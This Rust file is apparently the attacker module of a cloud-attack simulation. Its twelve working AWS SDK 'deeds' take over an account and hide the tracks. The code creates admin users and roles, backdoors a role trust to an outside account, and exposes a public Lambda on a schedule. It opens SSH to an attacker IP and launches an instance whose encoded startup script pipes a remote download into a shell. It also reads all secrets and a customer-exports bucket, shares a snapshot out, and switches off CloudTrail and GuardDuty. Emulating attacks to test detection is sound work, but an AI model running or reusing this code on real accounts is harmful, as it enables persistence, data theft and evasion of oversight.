//! What the attacker does to stay, to take data out and to cover the tracks. Each deed is one or two calls.

use std::future::Future;
use std::pin::Pin;

use aws_sdk_ec2::types as ec2;
use aws_sdk_eventbridge::types as events;
use aws_sdk_lambda::primitives::Blob;
use aws_sdk_lambda::types as lambda;

use super::{ATTACKER_IP, Attacker, BACKDOOR, DROP_ACCOUNT, FAR_REGION, OWN_FUNCTION, OWN_ROLE, OWN_RULE, OWN_USER};
use crate::scenario::means::{Means, REGION};

/// The bucket that is worth stealing from.
const EXPORTS: &str = "customer-exports-111122223333";
const KEY_PAIR: &str = "k";
/// The attacker's own identity provider.
const PROVIDER: &str = "id.example.org";
/// The MFA device that the attacker makes, and the user whom it is put on.
const DEVICE: &str = "pixel-7";
const ENROLLED: &str = "release-bot";
const PASSWORD: &str = "Tr0ub4dor&3-and-more";
const PUBLIC_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeyhunterKeyhunterKeyhunterKeyhunter k";
const USER_DATA: &str = "IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9leGFtcGxlLm9yZy94IHwgc2gK";
const IMAGE: &str = "ami-0c0ffee0c0ffee0c0";
/// A zip without a file in it: its end record.
const EMPTY_ZIP: [u8; 22] = [b'P', b'K', 5, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];

/// One deed under way.
pub(in crate::scenario) type Deed<'a> = Pin<Box<dyn Future<Output = ()> + Send + 'a>>;

impl Attacker {
    /// How many deeds there are.
    pub(in crate::scenario) const DEEDS: usize = 12;

    /// The deed of this number; nothing for one that there is not.
    pub(in crate::scenario) fn deed(&mut self, number: usize) -> Deed<'_> {
        match number {
            0 => Box::pin(self.make_user()),
            1 => Box::pin(self.enrol_device()),
            2 => Box::pin(self.change_trust()),
            3 => Box::pin(self.make_function()),
            4 => Box::pin(self.open_url()),
            5 => Box::pin(self.schedule()),
            6 => Box::pin(self.vouch()),
            7 => Box::pin(self.open_door()),
            8 => Box::pin(self.run_instance()),
            9 => Box::pin(self.read_secrets()),
            10 => Box::pin(self.share_snapshot()),
            11 => Box::pin(self.stop_watching()),
            _ => Box::pin(std::future::ready(())),
        }
    }

    async fn make_user(&mut self) {
        let iam = self.key.iam();
        let made = iam.create_user().user_name(OWN_USER).send().await;
        self.show(&format!("aws iam create-user --user-name {OWN_USER}"), &made, |made| {
            made.user().map(|user| user.user_id().to_owned()).unwrap_or_default()
        });
        let admin = "arn:aws:iam::aws:policy/AdministratorAccess";
        let given = iam.attach_user_policy().user_name(OWN_USER).policy_arn(admin).send().await;
        let call = format!("aws iam attach-user-policy --user-name {OWN_USER} --policy-arn {admin}");
        self.show(&call, &given, |_| "attached".to_owned());
        let login = iam.create_login_profile().user_name(OWN_USER).password(PASSWORD).send().await;
        let call = format!("aws iam create-login-profile --user-name {OWN_USER} --password …");
        self.show(&call, &login, |_| "may sign in to the console".to_owned());
        let key = iam.create_access_key().user_name(OWN_USER).send().await;
        self.show(&format!("aws iam create-access-key --user-name {OWN_USER}"), &key, |key| {
            key.access_key().map(|key| key.access_key_id().to_owned()).unwrap_or_default()
        });
        let key = key.ok().and_then(|made| made.access_key);
        self.own_user = key.and_then(|key| {
            let pair = crate::aws::KeyPair {
                access_key_id: key.access_key_id,
                secret_access_key: key.secret_access_key,
                session_token: None,
            };
            Means::new(&self.aws_url, pair, super::ORIGIN).ok()
        });
    }

    /// Puts an MFA device on somebody else's user, so that sessions of it pass for ones with a second factor.
    async fn enrol_device(&mut self) {
        let iam = self.key.iam();
        let made = iam.create_virtual_mfa_device().virtual_mfa_device_name(DEVICE).send().await;
        let serial = |made: &aws_sdk_iam::operation::create_virtual_mfa_device::CreateVirtualMfaDeviceOutput| {
            made.virtual_mfa_device().map(|device| device.serial_number().to_owned()).unwrap_or_default()
        };
        self.show(&format!("aws iam create-virtual-mfa-device --virtual-mfa-device-name {DEVICE} …"), &made, serial);
        let serial = made.as_ref().map(serial).unwrap_or_default();
        let enabled = iam.enable_mfa_device().user_name(ENROLLED).serial_number(&serial);
        let enabled = enabled.authentication_code1("491827").authentication_code2("730164").send().await;
        let call = format!("aws iam enable-mfa-device --user-name {ENROLLED} --serial-number {serial} …");
        self.show(&call, &enabled, |_| format!("a second factor of {ENROLLED}"));
    }

    async fn change_trust(&mut self) {
        let document = format!(
            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"Service":"ecs-tasks.amazonaws.com"}},"Action":"sts:AssumeRole"}},{{"Effect":"Allow","Principal":{{"AWS":"arn:aws:iam::{DROP_ACCOUNT}:root"}},"Action":"sts:AssumeRole"}}]}}"#
        );
        let changed = self.key.iam().update_assume_role_policy().role_name(BACKDOOR).policy_document(document);
        let changed = changed.send().await;
        let call =
            format!("aws iam update-assume-role-policy --role-name {BACKDOOR} --policy-document file://trust.json");
        self.show(&call, &changed, |_| format!("trusts account {DROP_ACCOUNT}"));
    }

    async fn make_function(&mut self) {
        let code = lambda::FunctionCode::builder().zip_file(Blob::new(EMPTY_ZIP)).build();
        let made = self
            .key
            .lambda(REGION)
            .create_function()
            .function_name(OWN_FUNCTION)
            .role(self.role_arn("app-deploy"))
            .runtime(lambda::Runtime::Python312)
            .handler("main.run")
            .code(code)
            .send()
            .await;
        let call = format!("aws lambda create-function --function-name {OWN_FUNCTION} --role app-deploy …");
        self.show(&call, &made, |made| made.function_arn().unwrap_or_default().to_owned());
    }

    async fn open_url(&mut self) {
        let lambda = self.key.lambda(REGION);
        let none = lambda::FunctionUrlAuthType::None;
        let allowed = lambda
            .add_permission()
            .function_name(OWN_FUNCTION)
            .statement_id("url")
            .action("lambda:InvokeFunctionUrl")
            .principal("*")
            .function_url_auth_type(none.clone())
            .send()
            .await;
        let call = format!("aws lambda add-permission --function-name {OWN_FUNCTION} --principal '*' …");
        self.show(&call, &allowed, |_| "anybody may call it".to_owned());
        let url = lambda.create_function_url_config().function_name(OWN_FUNCTION).auth_type(none).send().await;
        let call = format!("aws lambda create-function-url-config --function-name {OWN_FUNCTION} --auth-type NONE");
        self.show(&call, &url, |url| url.function_url().to_owned());
    }

    /// Has the function called every five minutes, whatever becomes of the key.
    async fn schedule(&mut self) {
        let client = self.key.events(REGION);
        let put = client.put_rule().name(OWN_RULE).schedule_expression("rate(5 minutes)").send().await;
        let call = format!("aws events put-rule --name {OWN_RULE} --schedule-expression 'rate(5 minutes)'");
        self.show(&call, &put, |put| put.rule_arn().unwrap_or_default().to_owned());
        let rule_arn = put.ok().and_then(|put| put.rule_arn).unwrap_or_default();
        let allowed = self.key.lambda(REGION).add_permission().function_name(OWN_FUNCTION).statement_id("tick");
        let allowed = allowed.action("lambda:InvokeFunction").principal("events.amazonaws.com").source_arn(rule_arn);
        let allowed = allowed.send().await;
        let call =
            format!("aws lambda add-permission --function-name {OWN_FUNCTION} --principal events.amazonaws.com …");
        self.show(&call, &allowed, |_| "the rule may call it".to_owned());
        let arn = format!("arn:aws:lambda:{REGION}:{}:function:{OWN_FUNCTION}", self.account.id());
        let Ok(target) = events::Target::builder().id("1").arn(&arn).build() else { return };
        let aimed = client.put_targets().rule(OWN_RULE).targets(target).send().await;
        let call = format!("aws events put-targets --rule {OWN_RULE} --targets Id=1,Arn={arn}");
        self.show(&call, &aimed, |_| "called every five minutes".to_owned());
    }

    /// Makes an identity provider, and a role for whoever it vouches for.
    async fn vouch(&mut self) {
        let iam = self.key.iam();
        let provider = iam.create_open_id_connect_provider().url(format!("https://{PROVIDER}"));
        let provider = provider.client_id_list("sts.amazonaws.com").send().await;
        let call = format!("aws iam create-open-id-connect-provider --url https://{PROVIDER} …");
        self.show(&call, &provider, |made| made.open_id_connect_provider_arn().unwrap_or_default().to_owned());
        let arn = provider.ok().and_then(|made| made.open_id_connect_provider_arn).unwrap_or_default();
        let trust = format!(
            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"Federated":"{arn}"}},"Action":"sts:AssumeRoleWithWebIdentity"}}]}}"#
        );
        let role = iam.create_role().role_name(OWN_ROLE).assume_role_policy_document(trust).send().await;
        let call =
            format!("aws iam create-role --role-name {OWN_ROLE} --assume-role-policy-document file://{PROVIDER}.json");
        self.show(&call, &role, |_| format!("trusts {PROVIDER}"));
        let admin = "arn:aws:iam::aws:policy/AdministratorAccess";
        let given = iam.attach_role_policy().role_name(OWN_ROLE).policy_arn(admin).send().await;
        let call = format!("aws iam attach-role-policy --role-name {OWN_ROLE} --policy-arn {admin}");
        self.show(&call, &given, |_| "attached".to_owned());
    }

    async fn open_door(&mut self) {
        let client = self.key.ec2(FAR_REGION);
        let key = aws_sdk_ec2::primitives::Blob::new(PUBLIC_KEY);
        let imported = client.import_key_pair().key_name(KEY_PAIR).public_key_material(key).send().await;
        let call = format!("aws ec2 import-key-pair --region {FAR_REGION} --key-name {KEY_PAIR} …");
        self.show(&call, &imported, |pair| pair.key_pair_id().unwrap_or_default().to_owned());
        let Some(group) = self.account.security_group(FAR_REGION, "default") else { return };
        let from = ec2::IpRange::builder().cidr_ip(format!("{ATTACKER_IP}/32")).build();
        let ssh = ec2::IpPermission::builder().ip_protocol("tcp").from_port(22).to_port(22).ip_ranges(from).build();
        let opened = client.authorize_security_group_ingress().group_id(&group).ip_permissions(ssh).send().await;
        let call = format!(
            "aws ec2 authorize-security-group-ingress --region {FAR_REGION} --group-id {group} --protocol tcp --port 22 --cidr {ATTACKER_IP}/32"
        );
        self.show(&call, &opened, |_| "open".to_owned());
    }

    async fn run_instance(&mut self) {
        let profile = ec2::IamInstanceProfileSpecification::builder().name("batch-worker").build();
        let ran = self
            .key
            .ec2(FAR_REGION)
            .run_instances()
            .image_id(IMAGE)
            .instance_type(ec2::InstanceType::C54xlarge)
            .min_count(1)
            .max_count(1)
            .key_name(KEY_PAIR)
            .iam_instance_profile(profile)
            .user_data(USER_DATA)
            .disable_api_termination(true)
            .send()
            .await;
        let call = format!(
            "aws ec2 run-instances --region {FAR_REGION} --instance-type c5.4xlarge --iam-instance-profile Name=batch-worker --disable-api-termination …"
        );
        let id = |ran: &aws_sdk_ec2::operation::run_instances::RunInstancesOutput| {
            ran.instances().first().and_then(|instance| instance.instance_id()).unwrap_or_default().to_owned()
        };
        self.show(&call, &ran, id);
        self.instance = ran.ok().as_ref().map(id).filter(|id| !id.is_empty());
    }

    async fn read_secrets(&mut self) {
        let client = self.key.secrets(REGION);
        let listed = client.list_secrets().send().await;
        let names = |listed: &aws_sdk_secretsmanager::operation::list_secrets::ListSecretsOutput| -> Vec<String> {
            listed.secret_list().iter().filter_map(|secret| secret.name().map(str::to_owned)).collect()
        };
        self.show("aws secretsmanager list-secrets", &listed, |listed| names(listed).join(", "));
        for name in listed.as_ref().map(names).unwrap_or_default() {
            let read = client.get_secret_value().secret_id(&name).send().await;
            let call = format!("aws secretsmanager get-secret-value --secret-id {name}");
            self.show(&call, &read, |read| {
                format!("{} characters", read.secret_string().map(str::len).unwrap_or_default())
            });
        }
        self.read_exports().await;
    }

    /// The event history shows nothing of this.
    async fn read_exports(&self) {
        let client = self.key.s3();
        let listed = client.list_objects_v2().bucket(EXPORTS).send().await;
        let keys = |listed: &aws_sdk_s3::operation::list_objects_v2::ListObjectsV2Output| -> Vec<String> {
            listed.contents().iter().filter_map(|object| object.key().map(str::to_owned)).collect()
        };
        self.show(&format!("aws s3 ls s3://{EXPORTS}"), &listed, |listed| keys(listed).join(", "));
        for key in listed.as_ref().map(keys).unwrap_or_default() {
            let read = client.get_object().bucket(EXPORTS).key(&key).send().await;
            self.show(&format!("aws s3 cp s3://{EXPORTS}/{key} -"), &read, |read| {
                format!("{} bytes", read.content_length().unwrap_or_default())
            });
        }
    }

    async fn share_snapshot(&mut self) {
        let client = self.key.ec2(REGION);
        let found = client.describe_snapshots().owner_ids("self").send().await;
        self.show("aws ec2 describe-snapshots --owner-ids self", &found, |found| {
            let ids = found.snapshots().iter().filter_map(|snapshot| snapshot.snapshot_id());
            ids.collect::<Vec<_>>().join(", ")
        });
        let id = found.ok().and_then(|found| found.snapshots?.into_iter().next()?.snapshot_id);
        let Some(id) = id else { return };
        let with = ec2::CreateVolumePermission::builder().user_id(DROP_ACCOUNT).build();
        let shared = client
            .modify_snapshot_attribute()
            .snapshot_id(&id)
            .attribute(ec2::SnapshotAttributeName::CreateVolumePermission)
            .create_volume_permission(ec2::CreateVolumePermissionModifications::builder().add(with).build())
            .send()
            .await;
        let call = format!("aws ec2 modify-snapshot-attribute --snapshot-id {id} --user-ids {DROP_ACCOUNT} …");
        self.show(&call, &shared, |_| format!("shared with {DROP_ACCOUNT}"));
    }

    async fn stop_watching(&mut self) {
        let stopped = self.key.trail(REGION).stop_logging().name("management-events").send().await;
        self.show("aws cloudtrail stop-logging --name management-events", &stopped, |_| "stopped".to_owned());
        let region = "eu-west-1";
        let Some(detector) = self.account.detector_id(region) else { return };
        let off = self.key.guardduty(region).update_detector().detector_id(&detector).enable(false).send().await;
        let call = format!("aws guardduty update-detector --region {region} --detector-id {detector} --no-enable");
        self.show(&call, &off, |_| "off".to_owned());
    }
}
